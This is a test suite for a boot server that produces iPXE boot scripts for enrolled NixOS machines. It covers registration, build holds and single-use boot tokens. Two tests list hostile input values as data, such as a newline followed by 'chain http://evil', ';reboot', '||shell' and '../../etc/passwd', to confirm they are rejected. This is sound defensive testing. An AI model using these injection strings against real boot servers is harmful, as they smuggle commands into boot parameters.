import { buildBootServer } from '../server/roles.ts';
import assert from 'node:assert/strict';
import { mkdirSync, rmSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { after, before, describe, test } from 'node:test';
import type { FastifyInstance } from 'fastify';
import { testDatabaseKinds } from '../../test/support/databases.ts';
import { createTestContext, enrollmentPayload, type TestContext, sqlOf } from '../../test/support/context.ts';
import type { AppContext } from '../server/context.ts';

const OPERATOR = { kind: 'user', name: 'test', role: 'operator' } as const;
const REGISTRATION_BOOT_JSON = { init: '/nix/store/aaaa-registration/init', kernel_params: ['console=ttyS0', 'loglevel=4'] };
const BUILD_INIT = '/nix/store/bbbb-nixos-system-web-01/init';

function writeRegistration(ctx: AppContext, bootJson: unknown = REGISTRATION_BOOT_JSON): void {
  const dir = ctx.images.registrationDir;
  mkdirSync(dir, { recursive: true });
  writeFileSync(join(dir, 'bzImage'), 'kernel');
  writeFileSync(join(dir, 'initrd'), 'initrd');
  writeFileSync(join(dir, 'boot.json'), typeof bootJson === 'string' ? bootJson : JSON.stringify(bootJson));
}

async function enroll(ctx: AppContext, tag: string, mac: string, uuid?: string): Promise<number> {
  const payload = enrollmentPayload(tag, { mac_address: mac });
  if (uuid) (payload.hardware as Record<string, unknown>).uuid = uuid;
  const { machine } = await ctx.machines.enroll(payload, { kind: 'machine', name: tag });
  return machine.id;
}

/** Enrolls, configures and builds a machine, then publishes the build as the builder would. */
async function publishImage(ctx: AppContext, tag: string, mac: string, bootJson: unknown): Promise<{ buildId: number; token: string; key: string }> {
  const id = await enroll(ctx, tag, mac);
  await ctx.machines.update(tag, { hostname: `h-${tag.toLowerCase().replace(/[^a-z0-9]/g, '')}`, nixos_config: '{ ... }: { }' }, OPERATOR);
  const build = await ctx.machines.requestBuild(tag, OPERATOR);
  const dir = ctx.images.buildDir(build.id);
  mkdirSync(dir, { recursive: true });
  writeFileSync(join(dir, 'bzImage'), 'kernel');
  writeFileSync(join(dir, 'initrd'), 'initrd');
  writeFileSync(join(dir, 'boot.json'), typeof bootJson === 'string' ? bootJson : JSON.stringify(bootJson));
  const now = new Date().toISOString();
  await ctx.storage.builds.transition(build.id, ['pending'], 'success', { completed_at: now }, now);
  await sqlOf(ctx).updateTable('machines').set({ image_build_id: build.id, status: 'ready' }).where('id', '=', id).execute();
  // Written around the services: say so, as they would.
  ctx.notifier.emit('machine.updated', id);
  const row = await ctx.storage.builds.findRecord(build.id);
  return { buildId: build.id, token: row!.boot_token, key: row!.image_key };
}

function fetchScript(app: FastifyInstance, url: string) {
  return app.inject({ url }).then((r) => {
    assert.equal(r.statusCode, 200, r.body);
    assert.equal(r.headers['content-type'], 'text/plain; charset=utf-8');
    return r.body;
  });
}

const registrationScript = (selfUrl: string, headline: string, extra = '', bootMac = '${netX/mac}') => `#!ipxe
echo metal: ${headline}
set metal_try:int32 0
:fetch
inc metal_try
kernel http://10.0.2.100/images/registration/bzImage initrd=initrd init=/nix/store/aaaa-registration/init console=ttyS0 loglevel=4 enrollment_url=http://10.0.2.100/api/v1/enroll${extra} metal.after=reboot metal.boot_mac=${bootMac} || goto failed
initrd --name initrd http://10.0.2.100/images/registration/initrd || goto failed
boot || goto failed
:failed
iseq \${metal_try} 3 || goto retry
:restart
echo metal: the download failed 3 times, asking the boot server again in 30 s
sleep 30
chain --replace --autofree ${selfUrl} || goto restart
:retry
echo metal: the download failed, retrying in 5 s
sleep 5
goto fetch
`;

const holdScript = (selfUrl: string, messages: string[], seconds: number) => `#!ipxe
:wait
${messages.map((m) => `echo metal: ${m}\n`).join('')}echo metal: asking the boot server again in ${seconds} s
sleep ${seconds}
chain --replace --autofree ${selfUrl} || goto wait
`;

for (const kind of await testDatabaseKinds()) {
  describe(`boot scripts on ${kind.name}`, () => {
    let t: TestContext;
    let app: FastifyInstance;
    let image: { buildId: number; token: string; key: string };
    before(async () => {
      t = await createTestContext(kind.fresh());
      // last_seen_at is written only when this server closes, so the batching test below is exact.
      app = await buildBootServer(t.ctx, { registrationTtlMs: 0, lastSeenIntervalMs: 3_600_000 });
      image = await publishImage(t.ctx, 'READY1', '52:54:00:00:00:01', { init: BUILD_INIT, kernel_params: ['console=ttyS0', 'nvme_core.default_ps_max_latency_us=0'] });
    });
    after(async () => {
      await app.close();
      await t.close();
    });

    test('registration image missing: the script says so and asks again; nothing unsafe', async () => {
      const body = await fetchScript(app, '/nixos/machines/NEW1.ipxe?mac=52:54:00:00:00:99');
      assert.equal(
        body,
        holdScript(
          'http://10.0.2.100/nixos/machines/NEW1.ipxe?mac=52:54:00:00:00:99',
          ['the boot server has no registration image (bzImage, initrd, boot.json missing in images/registration)'],
          60,
        ),
      );
    });

    test('unknown machine: the registration image with enrollment_url, the booting NIC (?mac=) and what to do after', async () => {
      writeRegistration(t.ctx);
      const body = await fetchScript(app, '/nixos/machines/NEW1.ipxe?mac=52:54:00:00:00:99&uuid=4C4C4544-0042-3510-8052-B3C04F4E3232');
      assert.equal(
        body,
        registrationScript(
          'http://10.0.2.100/nixos/machines/NEW1.ipxe?mac=52:54:00:00:00:99&uuid=4c4c4544-0042-3510-8052-b3c04f4e3232',
          'NEW1 is not enrolled, starting the registration image',
          '',
          '52:54:00:00:00:99',
        ),
      );
    });

    test('a machine with a published image boots it from its build directory with its token', async () => {
      const body = await fetchScript(app, '/nixos/machines/READY1.ipxe');
      const b = image.buildId;
      const token = /metal\.boot_token=([A-Za-z0-9._-]+) /.exec(body)?.[1] ?? '';
      assert.match(token, /^\d{15}\.[A-Za-z0-9_-]{16}\.[A-Za-z0-9_-]{32}$/, 'a fresh per-boot token: issued at, nonce, signature');
      assert.notEqual(token, image.token, 'not the per-build secret');
      assert.equal(
        body,
        `#!ipxe
echo metal: READY1: booting build ${b}
set metal_try:int32 0
:fetch
inc metal_try
kernel http://10.0.2.100/images/builds/${image.key}/bzImage initrd=initrd init=${BUILD_INIT} console=ttyS0 nvme_core.default_ps_max_latency_us=0 metal.boot_url=http://10.0.2.100 metal.service_tag=READY1 metal.build_id=${b} metal.boot_token=${token} || goto failed
initrd --name initrd http://10.0.2.100/images/builds/${image.key}/initrd || goto failed
boot || goto failed
:failed
iseq \${metal_try} 3 || goto retry
:restart
echo metal: the download failed 3 times, asking the boot server again in 30 s
sleep 30
chain --replace --autofree http://10.0.2.100/nixos/machines/READY1.ipxe || goto restart
:retry
echo metal: the download failed, retrying in 5 s
sleep 5
goto fetch
`,
      );
    });

    test('the token on the kernel line is single-use: the first booted report takes it, a replay is refused, the next boot gets a new one', async () => {
      const tokenOf = async () => /metal\.boot_token=([A-Za-z0-9._-]+) /.exec(await fetchScript(app, '/nixos/machines/READY1.ipxe'))?.[1] ?? '';
      const report = (token: string) =>
        app.inject({ method: 'POST', url: '/api/v1/machines/READY1/booted', payload: { build_id: image.buildId, token } });
      const earlier = await tokenOf();
      await new Promise((resolve) => setTimeout(resolve, 5));
      const first = await tokenOf();
      assert.notEqual(first, earlier);
      assert.equal((await report(image.token)).statusCode, 403, 'the per-build secret is not a boot token');
      assert.equal((await report(first)).statusCode, 200);
      assert.equal((await report(earlier)).statusCode, 403, 'a token issued before an accepted one');
      const replay = await report(first);
      assert.equal(replay.statusCode, 403);
      assert.equal(replay.json().error.code, 'forbidden');
      await new Promise((resolve) => setTimeout(resolve, 5));
      const next = await tokenOf();
      assert.equal((await report(next)).statusCode, 200, 'the next boot reports again');
      const booted = await t.ctx.storage.events.list({ kind: 'machine.booted', buildId: image.buildId });
      assert.equal(booted.total, 2);
    });

    test('known machine without an image: hold with the long sleep', async () => {
      await enroll(t.ctx, 'WAIT1', '52:54:00:00:00:02');
      const body = await fetchScript(app, '/nixos/machines/WAIT1.ipxe');
      assert.equal(
        body,
        holdScript('http://10.0.2.100/nixos/machines/WAIT1.ipxe', ['WAIT1 is enrolled but has no image yet, build one for it'], 30),
      );
    });

    test('known machine whose first build failed: the hold says so', async () => {
      await enroll(t.ctx, 'FAIL1', '52:54:00:00:00:12');
      await t.ctx.machines.update('FAIL1', { hostname: 'fail1' }, OPERATOR);
      const requested = await t.ctx.machines.requestBuild('FAIL1', OPERATOR);
      const queue = t.ctx.builds.queueFor({ kind: 'builder', name: 'test' }, 60_000);
      const row = await queue.claimNext();
      assert.equal(row?.id, requested.id, 'the one build waiting');
      await queue.fail(row.id, 'error: boom');
      assert.equal((await t.ctx.builds.get(requested.id)).status, 'failed');
      const body = await fetchScript(app, '/nixos/machines/FAIL1.ipxe');
      assert.equal(body, holdScript('http://10.0.2.100/nixos/machines/FAIL1.ipxe', ['FAIL1 has no image: its last build failed, see it on the dashboard and build again'], 30));
    });

    test('known machine with a build running: hold with the short sleep, even when it has an older image', async () => {
      await enroll(t.ctx, 'BUILD1', '52:54:00:00:00:03');
      await t.ctx.machines.update('BUILD1', { hostname: 'build1' }, OPERATOR);
      await t.ctx.machines.requestBuild('BUILD1', OPERATOR);
      const body = await fetchScript(app, '/nixos/machines/BUILD1.ipxe?mac=52:54:00:00:00:03');
      assert.equal(body, holdScript('http://10.0.2.100/nixos/machines/BUILD1.ipxe?mac=52:54:00:00:00:03', ['BUILD1 has a build in progress'], 5));

      await t.ctx.machines.requestBuild('READY1', OPERATOR);
      const ready = await fetchScript(app, '/nixos/machines/READY1.ipxe');
      assert.equal(ready, holdScript('http://10.0.2.100/nixos/machines/READY1.ipxe', ['READY1 has a build in progress'], 5));
      const active = await t.ctx.storage.builds.findActiveForMachine((await t.ctx.machines.get('READY1')).id);
      await t.ctx.builds.cancel(active!.id, OPERATOR);
      assert.match(await fetchScript(app, '/nixos/machines/READY1.ipxe'), /^echo metal: READY1: booting build /m);
    });

    test('placeholder serial falls back to the MAC, then to the UUID; the chain URL uses the found tag; a real serial never does', async () => {
      await enroll(t.ctx, '4c4c4544-0042-3510-8052-b3c04f4e3299', '52:54:00:00:00:04', '4c4c4544-0042-3510-8052-b3c04f4e3299');
      const byMac = await fetchScript(app, '/nixos/machines/To%20Be%20Filled%20By%20O.E.M..ipxe?mac=52-54-00-00-00-04');
      assert.equal(
        byMac,
        holdScript(
          'http://10.0.2.100/nixos/machines/4c4c4544-0042-3510-8052-b3c04f4e3299.ipxe?mac=52:54:00:00:00:04',
          ['4c4c4544-0042-3510-8052-b3c04f4e3299 is enrolled but has no image yet, build one for it'],
          30,
        ),
      );
      const byUuid = await fetchScript(app, '/nixos/machines/0000000.ipxe?mac=52:54:00:00:00:98&uuid=4C4C4544-0042-3510-8052-B3C04F4E3299');
      assert.equal(
        byUuid,
        holdScript(
          'http://10.0.2.100/nixos/machines/4c4c4544-0042-3510-8052-b3c04f4e3299.ipxe?mac=52:54:00:00:00:98&uuid=4c4c4544-0042-3510-8052-b3c04f4e3299',
          ['4c4c4544-0042-3510-8052-b3c04f4e3299 is enrolled but has no image yet, build one for it'],
          30,
        ),
      );
      const readyByMac = await fetchScript(app, '/nixos/machines/Default%20string.ipxe?mac=52:54:00:00:00:01');
      assert.match(readyByMac, /metal\.service_tag=READY1 /);
      // A real serial no machine has is a new machine, whatever MAC it names: never READY1's image.
      const unknownTagByMac = await fetchScript(app, '/nixos/machines/NEWSERIAL9.ipxe?mac=52:54:00:00:00:01');
      assert.equal(
        unknownTagByMac,
        registrationScript('http://10.0.2.100/nixos/machines/NEWSERIAL9.ipxe?mac=52:54:00:00:00:01', 'NEWSERIAL9 is not enrolled, starting the registration image', '', '52:54:00:00:00:01'),
      );
    });

    test('a firmware placeholder UUID never names a machine, even one that reported it', async () => {
      await enroll(t.ctx, 'SHAREDUUID1', '52:54:00:00:00:71', '03000200-0400-0500-0006-000700080009');
      const body = await fetchScript(app, '/nixos/machines/To%20Be%20Filled%20By%20O.E.M..ipxe?uuid=03000200-0400-0500-0006-000700080009');
      assert.equal(body, registrationScript('http://10.0.2.100/boot.ipxe', 'this machine is not enrolled, starting the registration image'));
      assert.doesNotMatch(body, /SHAREDUUID1/);
    });

    test('a placeholder or invalid serial of an unknown machine registers it; its chain URL is the entry script', async () => {
      const body = await fetchScript(app, '/nixos/machines/To%20Be%20Filled%20By%20O.E.M..ipxe');
      assert.equal(body, registrationScript('http://10.0.2.100/boot.ipxe', 'this machine is not enrolled, starting the registration image'));
      const placeholder = await fetchScript(app, '/nixos/machines/0.ipxe');
      assert.equal(placeholder, registrationScript('http://10.0.2.100/nixos/machines/0.ipxe', '0 is not enrolled, starting the registration image'));
    });

    test('GET /boot.ipxe: the generic entry script', async () => {
      const body = await fetchScript(app, '/boot.ipxe');
      assert.equal(
        body,
        `#!ipxe
:retry
chain --replace --autofree http://10.0.2.100/nixos/machines/\${serial:uristring}.ipxe?mac=\${netX/mac}&uuid=\${uuid} || goto failed
:failed
echo metal: the boot server did not answer, retrying in 5 s
sleep 5
goto retry
`,
      );
    });

    test('hostile tag, mac and uuid values never reach the script', async () => {
      const hostile = [
        'A\nchain http://evil/x',
        'A B',
        '${net0/ip}',
        'A;reboot',
        'A"q',
        "A'q",
        'A||shell',
        'A&&shell',
        '../../etc/passwd',
        '#comment',
        `A${'x'.repeat(300)}`,
      ];
      for (const value of hostile) {
        const q = encodeURIComponent(value);
        const body = await fetchScript(app, `/nixos/machines/${q}.ipxe?mac=${q}&uuid=${q}`);
        assert.equal(body, registrationScript('http://10.0.2.100/boot.ipxe', 'this machine is not enrolled, starting the registration image'), value);
        for (const line of body.split('\n')) assert.ok(!line.includes(value), `${JSON.stringify(value)} in ${line}`);
        const asKnown = await fetchScript(app, `/nixos/machines/READY1.ipxe?mac=${q}&uuid=${q}`);
        assert.ok(!asKnown.includes(value), JSON.stringify(value));
        assert.match(asKnown, /chain --replace --autofree http:\/\/10\.0\.2\.100\/nixos\/machines\/READY1\.ipxe \|\| goto restart/);
      }
      const repeated = await fetchScript(app, '/nixos/machines/READY1.ipxe?mac=52:54:00:00:00:01&mac=52:54:00:00:00:02');
      assert.match(repeated, /READY1\.ipxe \|\| goto restart/);
    });

    test('a long invalid serial still gets a script, found by MAC', async () => {
      const body = await fetchScript(app, `/nixos/machines/${'x'.repeat(500)}.ipxe?mac=52:54:00:00:00:01`);
      assert.match(body, /metal\.service_tag=READY1 /);
    });

    test('a script name without .ipxe is not found', async () => {
      const r = await app.inject({ url: '/nixos/machines/READY1' });
      assert.equal(r.statusCode, 404);
      assert.deepEqual(r.json(), { error: { code: 'not_found', message: 'boot scripts are named <service tag>.ipxe' } });
    });

    test('script requests update last_seen_at in one batch', async () => {
      const before = (await t.ctx.machines.get('WAIT1')).last_seen_at!;
      await new Promise((r) => setTimeout(r, 5));
      const closing = await buildBootServer(t.ctx, { registrationTtlMs: 0, lastSeenIntervalMs: 3_600_000 });
      for (let i = 0; i < 20; i++) await fetchScript(closing, '/nixos/machines/WAIT1.ipxe');
      assert.equal((await t.ctx.machines.get('WAIT1')).last_seen_at, before, 'written before the batch');
      await closing.close();
      assert.ok((await t.ctx.machines.get('WAIT1')).last_seen_at! > before, 'written when the server closes');
    });
  });

  describe(`boot scripts with an enroll token and unusable boot.json on ${kind.name}`, () => {
    let t: TestContext;
    let app: FastifyInstance;
    before(async () => {
      t = await createTestContext(kind.fresh(), { METAL_ENROLL_TOKEN: 'enroll-token-0123456789' });
      app = await buildBootServer(t.ctx, { registrationTtlMs: 0 });
    });
    after(async () => {
      await app.close();
      await t.close();
    });

    test('the enroll token goes on the registration kernel line', async () => {
      writeRegistration(t.ctx);
      const body = await fetchScript(app, '/nixos/machines/NEW2.ipxe');
      assert.equal(
        body,
        registrationScript(
          'http://10.0.2.100/nixos/machines/NEW2.ipxe',
          'NEW2 is not enrolled, starting the registration image',
          ' metal.enroll_token=enroll-token-0123456789',
        ),
      );
    });

    const hostileManifests: Array<[string, unknown, string]> = [
      ['newline in a kernel parameter', { init: BUILD_INIT, kernel_params: ['console=ttyS0\nchain http://evil'] }, 'boot.json kernel_params 0 has characters that are not allowed on a kernel line'],
      ['space in a kernel parameter', { init: BUILD_INIT, kernel_params: ['a b'] }, 'boot.json kernel_params 0 has characters that are not allowed on a kernel line'],
      ['iPXE expansion', { init: BUILD_INIT, kernel_params: ['ok=1', 'x=${net0/ip}'] }, 'boot.json kernel_params 1 has characters that are not allowed on a kernel line'],
      ['semicolon', { init: BUILD_INIT, kernel_params: ['a;reboot'] }, 'boot.json kernel_params 0 has characters that are not allowed on a kernel line'],
      ['ampersands', { init: BUILD_INIT, kernel_params: ['a&&reboot'] }, 'boot.json kernel_params 0 has characters that are not allowed on a kernel line'],
      ['quote', { init: BUILD_INIT, kernel_params: ['a="b"'] }, 'boot.json kernel_params 0 has characters that are not allowed on a kernel line'],
      ['hash', { init: BUILD_INIT, kernel_params: ['#x'] }, 'boot.json kernel_params 0 has characters that are not allowed on a kernel line'],
      ['a parameter the server writes', { init: BUILD_INIT, kernel_params: ['metal.boot_token=stolen'] }, 'boot.json kernel_params 0 sets a parameter the boot server writes itself'],
      ['init with a space', { init: '/nix/store/x/init reboot', kernel_params: [] }, 'boot.json init is not an absolute path of plain characters'],
      ['init with an expansion', { init: '/nix/${x}/init', kernel_params: [] }, 'boot.json init is not an absolute path of plain characters'],
      ['no init', { kernel_params: [] }, 'boot.json has no init'],
      ['not a list', { init: BUILD_INIT, kernel_params: 'console=ttyS0' }, 'boot.json kernel_params is not a list'],
      ['not JSON', '{"init": ', 'boot.json is not valid JSON'],
    ];
    for (const [i, [name, manifest, reason]] of hostileManifests.entries()) {
      test(`build boot.json with ${name}: a hold script that says so, nothing of the file in it`, async () => {
        const tag = `BAD${i}`;
        const { buildId } = await publishImage(t.ctx, tag, `52:54:00:00:01:${String(i).padStart(2, '0')}`, manifest);
        const body = await fetchScript(app, `/nixos/machines/${tag}.ipxe`);
        assert.equal(
          body,
          holdScript(`http://10.0.2.100/nixos/machines/${tag}.ipxe`, [`the image of ${tag} (build ${buildId}) cannot be booted: ${reason}`, 'rebuild it'], 60),
        );
      });
    }

    test('registration boot.json with a hostile parameter: the script says so', async () => {
      writeRegistration(t.ctx, { kernel_params: ['console=ttyS0', 'x=${serial}'] });
      const body = await fetchScript(app, '/nixos/machines/NEW3.ipxe');
      assert.equal(
        body,
        holdScript(
          'http://10.0.2.100/nixos/machines/NEW3.ipxe',
          ['the boot server has an unusable registration image: boot.json kernel_params 1 has characters that are not allowed on a kernel line'],
          60,
        ),
      );
    });

    test('a build whose files are gone: the script says so', async () => {
      const { buildId } = await publishImage(t.ctx, 'GONE1', '52:54:00:00:02:01', { init: BUILD_INIT, kernel_params: [] });
      rmSync(join(t.ctx.images.buildDir(buildId), 'initrd'));
      const body = await fetchScript(app, '/nixos/machines/GONE1.ipxe');
      assert.equal(
        body,
        holdScript('http://10.0.2.100/nixos/machines/GONE1.ipxe', [`the image of GONE1 (build ${buildId}) cannot be booted: initrd missing in its build directory`, 'rebuild it'], 60),
      );
    });
  });
}
